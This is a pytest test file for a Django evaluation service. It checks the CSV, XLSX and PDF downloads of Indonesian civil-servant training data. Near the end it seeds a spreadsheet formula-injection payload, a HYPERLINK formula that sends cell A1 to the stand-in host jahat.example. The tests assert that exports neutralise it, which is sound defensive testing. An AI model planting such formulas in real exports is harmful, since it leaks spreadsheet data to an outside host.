"""Downloads and reports: CSV/XLSX tables hold the page's numbers, the SIASN export has BKN's fields,
and the PDF reports carry the filters, the method and the key numbers (text read back with pypdf)."""

import csv
import io

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from companion_service.core.tabular import cell_text
from companion_service.evaluation.siasn import FIELDS


@pytest.fixture
def evaluator(client, make_user):
    client.force_login(make_user("eva", "evaluator"))
    return client


def csv_rows(response, delimiter=";") -> list[list[str]]:
    """A CSV download's rows, identifiers (``="…"``) read as the companion's importers read them."""
    text = response.content.decode("utf-8-sig")
    return [[cell_text(cell) for cell in row] for row in csv.reader(io.StringIO(text), delimiter=delimiter)]


def pdf_text(response) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)


def test_csv_table_has_the_numbers_of_the_page(data, evaluator):
    response = evaluator.get("/evaluasi/unduh/scorecard/coverage.csv?year=2026&sep=comma")
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="bina-asn-scorecard-coverage-2026.csv"' in response["Content-Disposition"]
    rows = csv_rows(response, ",")
    assert rows[0] == [
        "Ukuran",
        "Porsi (%)",
        "ASN terhitung",
        "ASN",
    ]
    at_least_20 = rows[4]
    assert at_least_20[0] == "Minimal 20 JP" and at_least_20[1] == "40.0" and at_least_20[2:] == ["8", "20"]


def test_xlsx_table_opens_with_numbers(data, evaluator):
    response = evaluator.get("/evaluasi/unduh/impact/units.xlsx?weighting=exact")
    book = load_workbook(io.BytesIO(response.content))
    rows = list(book.active.iter_rows(values_only=True))
    a1 = next(row for row in rows if row[1] == "UNIT-A1")
    assert a1[3:7] == ("Triwulan II 2026", 81.25, 90.0, 8.75)


def test_suppressed_cells_are_empty_in_downloads(data, evaluator):
    rows = csv_rows(evaluator.get("/evaluasi/unduh/scorecard/opds.csv?year=2026"))
    dinsos = next(row for row in rows if row[1] == "DINSOS")
    assert dinsos[2] == "4" and dinsos[3:6] == ["", "", ""]


def test_siasn_export(data, evaluator):
    response = evaluator.get("/evaluasi/unduh/siasn-riwayat-kursus.csv?year=2026&opd=DISDUKCAPIL")
    table = csv_rows(response)
    rows = [dict(zip(table[0], row, strict=True)) for row in table[1:]]
    assert list(rows[0]) == ["nipBaru", *FIELDS, "keteranganJp"]  # BKN's fields, then the review column
    a01 = [
        row
        for row in rows
        if row["namaKursus"] == "Literasi Digital ASN" and row["tanggalSelesaiKursus"] == "10-02-2026"
    ]
    assert len(a01) == 1
    assert (a01[0]["jumlahJam"], a01[0]["tahunKursus"], a01[0]["tanggalKursus"]) == (
        "20",
        "2026",
        "10-01-2026",
    )
    assert a01[0]["nipBaru"] == data.asn["a01"].nip and a01[0]["pnsOrangId"] == ""
    assert (a01[0]["jenisDiklatId"], a01[0]["jenisKursus"]) == ("16", "")
    assert a01[0]["keteranganJp"] == "ditetapkan BKPSDM"
    estimated = next(row for row in rows if row["namaKursus"] == "Pelayanan Prima Digital")
    assert estimated["jumlahJam"] == "8" and estimated["keteranganJp"].startswith("PERKIRAAN")
    workshop = next(row for row in rows if row["namaKursus"] == "Analisis data layanan")
    assert workshop["institusiPenyelenggara"] == "PT Teknologi Tapanuli" and workshop["jumlahJam"] == "5"
    assert workshop["keteranganJp"].startswith("lokakarya")
    assert len(rows) == 7


def test_whole_ledger_export(data, evaluator):
    rows = csv_rows(evaluator.get("/evaluasi/unduh/jp.csv?year=2026&short=1"))
    assert len(rows) == 1 + 12  # ASN below 20 JP: 6 in DISDUKCAPIL, 2 in RSUD, 4 in DINSOS
    assert rows[0][-3:] == ["Jumlah JP", "Di antaranya perkiraan", "Kekurangan JP dari 20"]
    a05 = next(row for row in rows if row[0] == data.asn["a05"].nip)
    assert a05[-3:] == ["8", "8", "12"]  # K2's 8 JP are estimated from effort x weeks


def test_scorecard_pdf(data, evaluator):
    response = evaluator.get("/evaluasi/laporan/skor.pdf?year=2026&weighting=exact", follow=True)
    assert response["Content-Type"] == "application/pdf"
    text = pdf_text(response)
    assert "Kartu skor Kota Sibolga, 2026" in text
    assert "Bobot: tepat 1/9 per unsur" in text  # the filters
    assert "40,0%" in text and "86,67" in text  # at least 20 JP, IKM of 2026-Q4
    assert "Metode" in text


def test_impact_pdf(data, evaluator):
    url = "/evaluasi/laporan/dampak.pdf?window=2&threshold=0.5&weighting=exact"
    text = pdf_text(evaluator.get(url, follow=True))
    assert "Keterkaitan, bukan bukti sebab-akibat." in text
    flat = " ".join(text.split())
    assert "jendela 2 triwulan sebelum dan sesudah; ambang 50,0% staf terlatih" in flat
    assert "tingkat pelatihan: unit layanan" in flat
    assert "5,00" in text and "81,25" in text and "90,00" in text
    assert "2 unit terlatih dibanding 1 unit yang belum dilatih." in flat
    # Two trained units and one comparison: no interval, and the report says why.
    assert "Tidak ada interval." in flat and "Hanya 2 klaster terlatih dan 1 klaster pembanding" in flat
    assert "Jendela terpotong:" in flat and "Sampel minimal tidak terpenuhi:" in flat
    assert "Dampak minimum yang dapat dideteksi" in flat


def test_english_pages_and_unknown_downloads(data, evaluator):
    evaluator.cookies["django_language"] = "en"
    page = evaluator.get("/evaluasi/?year=2026", HTTP_ACCEPT_LANGUAGE="en")
    assert b"Scorecard of Kota Sibolga, 2026" in page.content
    assert evaluator.get("/evaluasi/unduh/scorecard/nope.csv").status_code == 404
    assert evaluator.get("/evaluasi/unduh/nope/coverage.csv").status_code == 404
    assert evaluator.get("/evaluasi/unduh/scorecard/coverage.exe").status_code == 404


# --- issue 15: formulas stay inert, NIPs stay text, CSV for Indonesian Excel ---------------------

HOSTILE_TITLE = '=HYPERLINK("http://jahat.example/?d="&A1,"Klik di sini")'


@pytest.fixture
def hostile_idea(db):
    from companion_service.evaluation.refresh import refresh
    from companion_service.openedx_sync.models import Idea

    from . import golden

    built = golden.build()
    Idea.objects.filter(remote_id=1).update(
        title=HOSTILE_TITLE, program={"kpi": "-5 menit", "kpi_target": "@15"}
    )
    assert refresh("test").status == "ok"
    return built


@pytest.mark.parametrize("sep", ["semicolon", "comma"])
def test_idea_titled_as_a_formula_reaches_the_innovation_csv_inert(hostile_idea, evaluator, sep):
    response = evaluator.get(f"/evaluasi/unduh/innovation/top.csv?year=2026&sep={sep}")
    delimiter = ";" if sep == "semicolon" else ","
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=delimiter))
    titles = [row[0] for row in rows[1:]]
    assert "'" + HOSTILE_TITLE in titles and HOSTILE_TITLE not in titles
    hostile = next(row for row in rows if row[0] == "'" + HOSTILE_TITLE)
    assert hostile[-2:] == ["'-5 menit", "'@15"]
    for row in rows:
        for cell in row:
            assert cell[:1] not in "=+@\t\r" or not cell, cell


def test_idea_titled_as_a_formula_reaches_the_innovation_xlsx_as_text(hostile_idea, evaluator):
    response = evaluator.get("/evaluasi/unduh/innovation/top.xlsx?year=2026")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    title = next(cell for cell in cells if "HYPERLINK" in str(cell.value))
    assert (title.value, title.data_type) == ("'" + HOSTILE_TITLE, "s")


def test_csv_follows_indonesian_excel_by_default(data, evaluator):
    text = evaluator.get("/evaluasi/unduh/scorecard/coverage.csv?year=2026").content
    assert text.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig")), delimiter=";"))
    assert rows[4][0] == "Minimal 20 JP" and rows[4][1] == "40,0"  # decimal comma
    comma = evaluator.get("/evaluasi/unduh/scorecard/coverage.csv?year=2026&sep=comma").content
    rows = list(csv.reader(io.StringIO(comma.decode("utf-8-sig"))))
    assert rows[4][1] == "40.0"


def test_nips_are_text_in_ledger_downloads(data, evaluator):
    nip = data.asn["a01"].nip
    text = evaluator.get("/evaluasi/unduh/jp.csv?year=2026").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert [f'="{nip}"'] == [row[0] for row in rows if row[0].endswith(f'{nip}"')]
    book = load_workbook(io.BytesIO(evaluator.get("/evaluasi/unduh/jp.xlsx?year=2026").content))
    cell = next(row[0] for row in book.active.iter_rows(min_row=2) if row[0].value == nip)
    assert (cell.data_type, cell.number_format) == ("s", "@")
    siasn = evaluator.get("/evaluasi/unduh/siasn-riwayat-kursus.csv?year=2026&sep=comma").content
    first = list(csv.DictReader(io.StringIO(siasn.decode("utf-8-sig"))))[0]
    assert first["nipBaru"].startswith('="') and len(first["nipBaru"]) == 21


def test_download_links_recommend_xlsx(data, evaluator):
    page = evaluator.get("/evaluasi/inovasi/?year=2026").content.decode()
    assert "XLSX (disarankan)" in page
    assert "sep=semicolon" in page and "sep=comma" in page
